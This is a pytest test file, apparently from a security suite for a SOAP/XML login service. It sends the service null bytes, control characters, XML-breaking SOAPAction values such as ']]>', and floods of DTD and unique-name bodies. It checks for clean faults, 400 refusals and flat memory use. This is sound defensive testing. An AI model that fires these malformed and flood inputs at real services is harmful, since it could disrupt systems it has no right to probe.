@pytest.mark.parametrize("stored", ["J\x0bohn", "\x00", "\uffff"])
def test_x13_a_row_that_xml_cant_carry_is_a_fault_for_its_user_alone(
    make_stored_service: Callable[..., Service],
    tmp_path: Path,
    logged: list[logging.LogRecord],
    call: Callable[..., TestResponse],
    stored: str,
) -> None:
    """Only SQL can write such a row: the program refuses these names. Its user gets a fault that shows nothing of it
    and no ticket, the log says which row it is, and others log in.
    """
    url = f"sqlite:///{tmp_path / 'users.db'}"
    service = make_stored_service(ConnectionStrings__Users=url)
    run_sql(url, "UPDATE users SET first_name = :odd WHERE user_name = 'alice'", odd=stored)
    response = call(service, "AuthenticateUser", UID="alice", PWD=PASSWORD)
    assert response.status_code == 500
    assert "Server was unable to process request." in response.text
    if "xml" in response.headers["Content-Type"]:
        ElementTree.fromstring(response.data)
    assert not list(service.composition.tickets.summaries())
    assert any("row of user" in str(record.exc_info) for record in logged)
    assert root_of(call(service, "AuthenticateUser", UID="bob", PWD=PASSWORD)).attrib["success"] == "true"


@pytest.mark.parametrize("value", ["%00", "%01", "%0B", "%1F", "%EF%BF%BE", "en%00", "%uFFFF"])
def test_x13_what_xml_cant_carry_is_refused_in_forms(target: Target, value: str) -> None:
    """400, so that no binding takes a value that another can't send."""
    query = f"UID=jsmith&PWD=x&Lang={value}".encode()
    assert target.attack("GET", "/srv.asmx/AuthenticateUser1", query=query).status_code == 400
    form = {"Content_Type": "application/x-www-form-urlencoded"}
    assert target.attack("POST", "/srv.asmx/AuthenticateUser1", query, **form).status_code == 400


@pytest.mark.parametrize("action", ["\x01", "a\x0bb", "\x7f\x80", "<&>'\"", "]]>"])
def test_x13_what_a_fault_repeats_never_breaks_it(target: Target, action: str) -> None:
    """A fault's text has the unknown SOAPAction in it."""
    response = attack(target, soap(), SOAPAction=action)
    assert is_refused(response)
    assert ElementTree.fromstring(response.data).tag == f"{{{SOAP11}}}Envelope"


# --- memory -----------------------------------------------------------------------------------------------------------

ATTACKS = [*FLOODS.values(), *NO_CALLS.values(), *(soap(fields, before=dtd) for dtd, fields in DTDS.values())]


def ask(body: bytes) -> None:
    """Have a body read, without a client that takes memory itself."""
    headers = HeaderMap([("content-type", "text/xml; charset=utf-8")])
    TARGET.ask(Request("POST", "/srv.asmx", "", headers, body))


def test_memory_does_not_grow_with_attacks(record_property: Callable[[str, object], None]) -> None:
    """Every document above, three times more: what Python has allocated stays as it was."""
    bodies = [body.encode() for body in ATTACKS]

    def send_all() -> None:
        for body in bodies:
            ask(body)

    send_all()
    gc.collect()
    tracemalloc.start()
    try:
        send_all()
        gc.collect()
        before = tracemalloc.get_traced_memory()[0]
        for _ in range(3):
            send_all()
        gc.collect()
        grown, peak = tracemalloc.get_traced_memory()[0] - before, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    record_property("bytes grown in 3 rounds", grown)
    record_property("peak bytes", peak)
    print(f"{3 * len(bodies)} attacks: {grown} bytes grown, {peak} bytes at the peak")
    assert grown < 32_768
    assert peak < 8_000_000


@pytest.mark.slow
@needs_proc
def test_memory_does_not_grow_with_made_up_names(record_property: Callable[[str, object], None]) -> None:
    """Half a million names of elements, 75,000 each of attributes, prefixes and namespaces, none of them twice; in
    bodies that are read and in ones that are refused. libxml2 would keep them all.
    """

    def send(first: int, count: int) -> None:
        for number in range(first, first + count):
            elements, others = many(100, f"<e{number}.{{}}/>"), many(100, f"<f{number}.{{}}/>")
            attributes = many(29, f" a{number}.{{}}=''")
            namespaces = many(29, f" xmlns:p{number}.{{}}='urn:{number}:{{}}'")
            ask(soap(f"{LOGIN}{elements}<a{attributes}/><a{namespaces}/>").encode())
            assert TARGET.rules.asked
            ask(f"<r{number}>{others}".encode())

    send(0, 200)
    before = resident_bytes()
    send(200, 2600)
    grown = (resident_bytes() - before) // 1024
    record_property("KiB grown by 520,000 element names", grown)
    print(f"520,000 element names and 226,200 of attributes, prefixes and namespaces: {grown} KiB grown")
    assert grown < 2048


@pytest.mark.slow
@needs_proc
def test_memory_does_not_grow_with_thousands_of_attacks(record_property: Callable[[str, object], None]) -> None:
    """Every attack above, 50 times, and 5,000 made-up media types, charsets, actions and operations."""
    bodies = [body.encode() for body in ATTACKS]

    def send(first: int, count: int) -> None:
        for number in range(first, first + count):
            for body in bodies:
                ask(body)
            for each in range(100):
                name = f"{number}.{each}"
                charset, action = ("content-type", f"text/xml; charset=x{name}"), ("soapaction", f"urn:{name}")
                form = ("content-type", f"text/x{name}")
                TARGET.ask(Request("POST", "/srv.asmx", "", HeaderMap([charset, action]), b"<a/>"))
                TARGET.ask(Request("POST", f"/srv.asmx/{name}", "", HeaderMap([form]), b"a=b"))

    send(0, 10)
    before = resident_bytes()
    send(10, 50)
    grown = (resident_bytes() - before) // 1024
    record_property("KiB grown in 50 rounds", grown)
    print(f"{50 * len(bodies)} bodies and 10,000 headers: {grown} KiB grown")
    assert grown < 4096
